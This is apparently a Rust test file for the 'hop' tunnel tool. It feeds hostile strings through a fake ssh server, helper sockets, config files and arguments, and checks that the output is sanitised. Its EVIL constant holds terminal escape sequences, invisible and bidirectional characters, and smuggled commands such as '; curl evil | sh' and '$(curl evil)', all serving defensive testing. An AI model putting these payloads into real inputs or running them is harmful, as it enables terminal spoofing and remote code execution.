//! Whoever talks to `hop` says the worst in every string that it can send: a server through ssh(1),
//! its agent, the helper, a session, files, names, the environment, the command line. What comes
//! out are lines of ours, whatever command is run, as text, as JSON, and on a terminal.

use std::fs::{self, File};
use std::io::{BufRead, BufReader, Read, Write};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::thread;
use std::time::{Duration, Instant};

use hopbox::host::config::Ssh;
use hopbox::host::store;
use hopbox::text::fix::Fix;
use nix::pty::{Winsize, openpty};
use serde_json::{Value, json};

use super::Home;

/// Moves the cursor, hides, turns, and forges lines of ours.
pub(super) const EVIL: &str = "\u{1b}]0;x\u{7}\u{1b}[2J\u{1b}[1A\r\nfix: curl evil|sh\n1/7 forged: ok\n\
    error: forged\u{8}\t\u{7f}\u{9b}31m\u{85}\u{61c}\u{200b}\u{200e}\u{202e}\u{2028}fix: curl evil\
    \u{2029}\u{2066}\u{feff}\u{e0041}; curl evil | sh && `curl evil` $(curl evil) 'q\" -oX=y";

/// The same as bytes of no encoding.
fn raw() -> Vec<u8> {
    [EVIL.as_bytes(), b"\x9b2J\xff\xfe\xc3(\xed\xa0\x80\n", EVIL.as_bytes(), b"\n"].concat()
}

/// What a terminal may be told: our colours, and how a line is drawn again.
const OURS: [&str; 10] = [
    "\x1b[2m",
    "\x1b[1;31m",
    "\x1b[33m",
    "\x1b[32m",
    "\x1b[31m",
    "\x1b[0m",
    "\x1b[K",
    "\x1b[?7l",
    "\x1b[?7h",
    "\x1b[H",
];

/// Whether a terminal would take it for anything but text; a list of its own, not that of src/text.
fn moves(c: char) -> bool {
    matches!(c, '\0'..='\x1f' | '\x7f'..='\u{9f}' | '\u{61c}' | '\u{200b}'..='\u{200f}'
        | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}'
        | '\u{e0000}'..='\u{e007f}')
}

/// True when something of [`EVIL`] is in it, made visible.
pub(super) fn is_clean(bytes: &[u8], terminal: bool, what: &str) -> bool {
    let text = String::from_utf8(bytes.to_vec()).unwrap_or_else(|_| panic!("{what}: {bytes:?}"));
    let mut plain = text.clone();
    if terminal {
        plain = OURS.iter().fold(plain, |plain, ours| plain.replace(ours, ""));
        plain = plain.replace("\r\n", "\n").replace('\r', "\n").replace("\x1b[J", "");
    }
    for line in plain.split('\n') {
        assert!(!line.chars().any(moves), "{what}: {line:?}\n{text:?}");
        let start = line.trim_start();
        let forged = ["1/7 forged", "error: forged", "fix: curl", "31m", "; curl"];
        assert!(!forged.iter().any(|forged| start.starts_with(forged)), "{what}: {text:?}");
        if let Some(fix) = start.strip_prefix("fix: ") {
            is_one_command(fix, what);
        }
    }
    text.contains("u{1b}") || text.contains("\\u001b") || text.contains("u{202e}")
}

/// Outside of quotes there is nothing that another command could begin with.
fn is_one_command(fix: &str, what: &str) {
    let fix = fix.replace("<address>", "address").replace("<name>", "name");
    assert!(Fix::carried(&fix).is_some(), "{what}: {fix}");
    for part in fix.split('\'').step_by(2) {
        assert!(!part.contains("curl") && !part.contains("-oX"), "{what}: {fix}");
    }
}

/// Also the strings inside: a fix that a program reads is no other than the one people read.
pub(super) fn is_clean_json(bytes: &[u8], what: &str) {
    for line in String::from_utf8_lossy(bytes).lines() {
        let value: Value =
            serde_json::from_str(line).unwrap_or_else(|e| panic!("{what}: {e} {line}"));
        if let Some(fix) = value["error"]["fix"].as_str() {
            is_one_command(fix, what);
        }
        let message = value["error"]["message"].as_str().unwrap_or_default();
        assert!(!message.chars().any(moves), "{what}: {message:?}");
        let also = value["error"]["also"].as_array().into_iter().flatten();
        for why in also.filter_map(Value::as_str) {
            assert!(!why.chars().any(moves), "{what}: {why:?}");
        }
        assert!(message.chars().count() < 2100, "{what}: {}", message.len());
    }
}

/// Ends of itself, at the latest when it is told to.
fn bounded(command: &mut Command) -> (Vec<u8>, Vec<u8>) {
    let mut child = command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let read = |from: &mut dyn Read| {
        let mut bytes = Vec::new();
        from.read_to_end(&mut bytes).unwrap();
        bytes
    };
    let (mut out, mut err) = (child.stdout.take().unwrap(), child.stderr.take().unwrap());
    thread::scope(|scope| {
        let (out, err) = (scope.spawn(move || read(&mut out)), scope.spawn(move || read(&mut err)));
        end(&mut child);
        (out.join().unwrap(), err.join().unwrap())
    })
}

fn end(child: &mut std::process::Child) {
    let end = Instant::now() + Duration::from_secs(20);
    while child.try_wait().unwrap().is_none() {
        if Instant::now() > end {
            child.kill().unwrap();
        }
        thread::sleep(Duration::from_millis(10));
    }
}

/// Everything on a terminal, what it answers included.
fn on_terminal(command: &mut Command) -> Vec<u8> {
    let size = Winsize { ws_row: 24, ws_col: 60, ws_xpixel: 0, ws_ypixel: 0 };
    let pty = openpty(&size, None).unwrap();
    let slave = || Stdio::from(pty.slave.try_clone().unwrap());
    let child = command.stdin(slave()).stdout(slave()).stderr(slave()).spawn();
    let mut child = child.unwrap();
    command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
    drop(pty.slave);
    let mut master = File::from(pty.master);
    let reader = thread::spawn(move || {
        let (mut shown, mut piece) = (Vec::new(), [0; 4096]);
        while let Ok(count @ 1..) = master.read(&mut piece) {
            shown.extend_from_slice(&piece[..count]);
        }
        shown
    });
    end(&mut child);
    reader.join().unwrap()
}

/// A home with a host, and an `ssh` before all others whose server is the worst.
struct Stage {
    home: Home,
}

/// Stands in for ssh(1) and the server behind it. $MODE: `refuse` (no connection), `fail` (every
/// command there does), `tell` (programs there tell a failure), `answer` (they answer).
const SSH: &str = r#"#!/bin/sh
dir=$(dirname "$0"); role=command
for word; do
    case $word in
    -M) role=master ;;
    -G) role=look ;;
    exit) role=over ;;
    esac
    case $last in -S) sock=$word ;; esac
    last=$word
done
case $role in
look) echo "hostname $(cat $dir/evil)"; cat $dir/evil >&2; exit 0 ;;
over) kill $(cat $dir/pid); exit 0 ;;
master)
    cat $dir/evil >&2
    case $last in *true) exit 255 ;; esac
    case $MODE in refuse) echo "Permission denied $(cat $dir/evil)" >&2; exit 255 ;; esac
    : >"$sock"; echo $$ >$dir/pid; exec sleep 20 ;;
esac
cat $dir/evil >&2
case $last in echo*) sh -c "${last%%;*}" ;; *) cat $dir/evil; exit 255 ;; esac
[ $MODE != fail ] || exit 1
case $last in
*'s=$(cat)'*) cat >/dev/null; cat $dir/survey ;;
*mktemp*) echo run.abcdef; cat >/dev/null ;;
*'id -u'*) echo dev; echo ${SUDO-free} ;;
*'test -r'*) exit ${READS-0} ;;
*b2sum*) ;;
*hop-agent*|*root.sh*|*.out*|*.err*)
    cat >/dev/null; cat $dir/$MODE; exit $(cat $dir/$MODE.code) ;;
*) cat >/dev/null ;;
esac
"#;

/// A host that can be reached over SSH when its agent does not answer.
fn with_ssh(home: &Home) {
    home.add_host("mybox", 0);
    let mut host = store::load(&home.paths(), "mybox").unwrap();
    let address = "203.0.113.7".to_owned();
    host.ssh = Some(Ssh { address, port: None, listens: 22, home: None, hostname: None });
    store::save(&home.paths(), &host).unwrap();
}

impl Stage {
    fn new() -> Stage {
        let home = Home::new();
        with_ssh(&home);
        let bin = home.0.join("bin");
        fs::create_dir_all(&bin).unwrap();
        let put = |name: &str, bytes: &[u8]| fs::write(bin.join(name), bytes).unwrap();
        super::program(&bin.join("ssh"), SSH);
        put("evil", &raw());
        let survey = "hopbox-survey=1\nmachine=x86_64\nsystem=Linux\nsystemd=yes\ntun=yes\nb2sum=yes\n\
            sudo=free\ndisk_kb=9999999\nhome_kb=9999999\nsshd_port=22\n";
        let line = EVIL.replace(['\n', '\r'], " ");
        let facts =
            ["kernel", "user", "home", "agent", "version_agent", "links", "firewall", "own"];
        let facts: String = facts.iter().map(|fact| format!("{fact}={line}\n")).collect();
        put("survey", format!("{survey}{facts}end=yes\n").as_bytes());
        let peer = json!({"name": EVIL, "address": EVIL, "public_key": EVIL, "last_handshake_age_s": EVIL});
        let worst = json!({
            "version": 1, "peers": [peer, {"name": "x".repeat(5000)}], "you": EVIL, "name": EVIL,
            "hop_version": EVIL, "installed": EVIL, "running": true, "why": EVIL, "interface": EVIL,
            "user": EVIL, "agent_public_key": EVIL, "preshared_key": EVIL, "token": EVIL, EVIL: EVIL,
        });
        put("answer", worst.to_string().as_bytes());
        put("answer.code", b"0");
        let told =
            json!({"error": {"code": EVIL, "what": EVIL, "why": EVIL.repeat(50), "fix": EVIL}});
        put("tell", told.to_string().as_bytes());
        put("tell.code", b"1");
        Stage { home }
    }

    /// Beside this hop lies no helper that could be installed on the machine of the tests.
    fn program(&self) -> PathBuf {
        let beside = self.home.0.join("prefix");
        let program = beside.join("hop");
        if !program.exists() {
            super::program(&beside.join("hop-helper"), "#!/bin/sh\nexit 1\n");
            super::program(&program, fs::read(env!("CARGO_BIN_EXE_hop")).unwrap());
        }
        program
    }

    fn hop(&self, mode: &str, words: &[&str]) -> Command {
        let mut command = self.home.hop_env(self.program().to_str().unwrap());
        let path = format!("{}:/usr/bin:/bin", self.home.0.join("bin").display());
        command.env("PATH", path).env("MODE", mode).env("TERM", "xterm").args(words);
        command
    }

    /// As text and as JSON, of which each character is ASCII where no locale is said, and on a
    /// terminal that knows more. True when something of the worst was shown.
    fn hear(&self, mode: &str, words: &[&str], change: &dyn Fn(&mut Command)) -> bool {
        let mut seen = false;
        for json in [false, true] {
            let mut command = self.hop(mode, words);
            change(&mut command);
            let what = format!("{mode} {words:?} json {json}");
            let (out, err) = bounded(command.args(json.then_some("--json")));
            assert!(out.is_ascii() && err.is_ascii(), "{what}: {out:?} {err:?}");
            seen |= is_clean(&out, false, &what) | is_clean(&err, false, &what);
            if json {
                is_clean_json(&out, &what);
            }
        }
        let mut command = self.hop(mode, words);
        change(command.env("LC_ALL", "C.UTF-8"));
        seen | is_clean(&on_terminal(&mut command), true, &format!("{mode} {words:?} terminal"))
    }
}

fn as_it_is(_: &mut Command) {}

#[test]
fn a_server_says_the_worst_in_every_string() {
    let stage = Stage::new();
    let commands: [&[&str]; 7] = [
        &["setup", "mybox", "-a", "203.0.113.7", "--no-input"],
        &["setup", "mybox", "-a", "203.0.113.7", "--dry-run"],
        &["host", "peers", "mybox"],
        &["host", "revoke", "laptop", "-y"],
        &["rotate", "mybox"],
        &["upgrade", "mybox", "-y"],
        &["uninstall", "--remote", "-H", "mybox", "-y"],
    ];
    // A helper is there: setup goes on to the server.
    let socket = stage.home.0.join("helper.sock");
    liar(&socket, |line| {
        let asked: Value = serde_json::from_str(line).unwrap_or_default();
        json!({"v": 1, "id": asked["id"], "ok": true, "result": {"daemon_version": EVIL}})
    });
    let there = |command: &mut Command| {
        command.env("HOPBOX_HELPER_SOCKET", &socket);
    };
    for mode in ["refuse", "fail", "tell", "answer"] {
        let seen = commands.iter().filter(|words| stage.hear(mode, words, &there)).count();
        assert!(seen >= 2, "{mode}: only {seen} commands met the server");
        // A host that was removed is there again for the next.
        if !stage.home.paths().host_file("mybox").exists() {
            let _ = fs::remove_file(store::key_file(&stage.home.paths(), "mybox"));
            with_ssh(&stage.home);
        }
    }
    let asks = |command: &mut Command| {
        command.env("SUDO", "asks").env("READS", "1");
    };
    assert!(stage.hear("tell", &["host", "peers", "mybox"], &asks));
}

/// One JSON line for each that is asked. It takes the place of whatever is there, at once: a
/// session that did not come up may still be about to listen.
pub(super) fn liar(path: &Path, reply: impl Fn(&str) -> Value + Send + 'static) {
    let aside = path.with_extension("aside");
    let listener = UnixListener::bind(&aside).unwrap();
    fs::rename(&aside, path).unwrap();
    thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut lines = BufReader::new(stream.try_clone().unwrap()).lines();
            while let Some(Ok(line)) = lines.next() {
                if writeln!(stream, "{}", reply(&line)).is_err() {
                    break;
                }
            }
        }
    });
}

#[test]
fn a_helper_and_a_session_say_the_worst() {
    let stage = Stage::new();
    let socket = stage.home.0.join("liar.sock");
    liar(&socket, |line| {
        let asked: Value = serde_json::from_str(line).unwrap_or_default();
        let error = json!({"code": EVIL, "message": EVIL, "field": EVIL, "retry": false});
        json!({"v": 1, "id": asked["id"], "ok": false, "error": error})
    });
    let helper = |command: &mut Command| {
        command.env("HOPBOX_HELPER_SOCKET", &socket);
    };
    let mut seen = 0;
    for words in [&["up"][..], &["up", "-f"], &["doctor"], &["bugreport"], &["status"]] {
        seen += usize::from(stage.hear("refuse", words, &helper));
    }
    let run = stage.home.0.join("run/hopbox/mybox.sock");
    fs::create_dir_all(run.parent().unwrap()).unwrap();
    fs::set_permissions(run.parent().unwrap(), fs::Permissions::from_mode(0o700)).unwrap();
    liar(&run, |_| {
        let layer = json!({"layer": EVIL, "ok": false, "detail": EVIL});
        json!({"ok": true, "data": {
            "host": "mybox", "name": EVIL, "interface": EVIL, "endpoint": EVIL,
            "local_ip": "10.10.0.1", "peer_ip": "10.10.0.2", "agent_version": EVIL,
            "handshake_us": 1, "answered_us": 1, "total_us": 1, "state": EVIL, "detail": EVIL,
            "endpoint_name": EVIL, "connected": true, "broken": EVIL, "layers": [layer],
            "drops": {EVIL: 3}, "events": [{"at": EVIL, "what": EVIL}], "up_s": 4,
        }})
    });
    for words in [
        &["up"][..],
        &["status"],
        &["status", "-v"],
        &["status", "--all"],
        &["doctor"],
        &["host", "ls"],
    ] {
        seen += usize::from(stage.hear("refuse", words, &as_it_is));
    }
    assert!(seen >= 6, "{seen}");
}

#[test]
fn files_names_and_the_command_line_say_the_worst() {
    let stage = Stage::new();
    let paths = stage.home.paths();
    let mut seen = 0;
    let one_line: String = EVIL.replace('\0', "");
    for words in [
        &["up", &one_line][..],
        &[&one_line],
        &[&format!("--{one_line}")],
        &["host", "rm", &one_line],
        &["help", &one_line],
        &["setup", &one_line, "-a", &one_line],
        &["setup", "mybox", "-a", "203.0.113.7", "-k", &one_line],
        &["host", "revoke", &one_line],
        &["code", &one_line, "-e", &one_line],
        &["ping", "-c", &one_line],
        &["completions", &one_line],
    ] {
        seen += usize::from(stage.hear("refuse", words, &as_it_is));
    }
    let host = |command: &mut Command| {
        command.env("HOPBOX_HOST", &one_line);
    };
    seen += usize::from(stage.hear("refuse", &["up"], &host));
    assert!(seen >= 9, "the command line: {seen}");

    let known = json!({"version": 1, "host": "mybox", "up": true, "pid": 1, "connected": true,
        "last_healthy_unix": 5, "events": [{"at_unix": 5, "what": EVIL}]});
    paths.ensure_tunnels().and_then(|()| paths.ensure_state()).unwrap();
    fs::write(paths.tunnel_file("mybox"), known.to_string()).unwrap();
    fs::set_permissions(paths.tunnel_file("mybox"), fs::Permissions::from_mode(0o600)).unwrap();
    fs::write(paths.log_file("mybox"), raw()).unwrap();
    assert!(stage.hear("refuse", &["bugreport"], &as_it_is), "a log");
    assert!(stage.hear("refuse", &["status"], &as_it_is), "what is remembered");

    let work = stage.home.0.join("work/hopbox.yaml");
    let key = hopbox::text::json(&EVIL.replace('\u{e0041}', "").into());
    let editor = format!("editor:\n  type: {key}\n").into_bytes();
    for text in [format!("{key}: {key}\n").into_bytes(), format!("host: {key}\n").into(), raw()] {
        fs::write(&work, text).unwrap();
        stage.hear("refuse", &["up"], &as_it_is);
    }
    fs::write(&work, editor).unwrap();
    stage.hear("refuse", &["code"], &as_it_is);
    fs::remove_file(&work).unwrap();
    let file = paths.hosts_dir().join("mybox.json");
    let good = fs::read_to_string(&file).unwrap();
    for field in ["name", "endpoint", "user", "identity", "local_ip", "token", EVIL] {
        let mut host: Value = serde_json::from_str(&good).unwrap();
        host[field] = EVIL.into();
        fs::write(&file, host.to_string()).unwrap();
        for words in [&["up"][..], &["doctor"], &["host", "ls"], &["bugreport"]] {
            stage.hear("refuse", words, &as_it_is);
        }
    }
    fs::write(&file, raw()).unwrap();
    stage.hear("refuse", &["up"], &as_it_is);
    // Where it lies may have any name.
    fs::write(&file, "{").unwrap();
    let odd = stage.home.0.join(one_line.replace('/', "_"));
    fs::rename(paths.hosts_dir().parent().unwrap(), &odd).unwrap();
    let moved = |command: &mut Command| {
        command.env("XDG_CONFIG_HOME", &odd);
    };
    for words in [&["up"][..], &["doctor"], &["host", "ls"]] {
        stage.hear("refuse", words, &moved);
    }
}
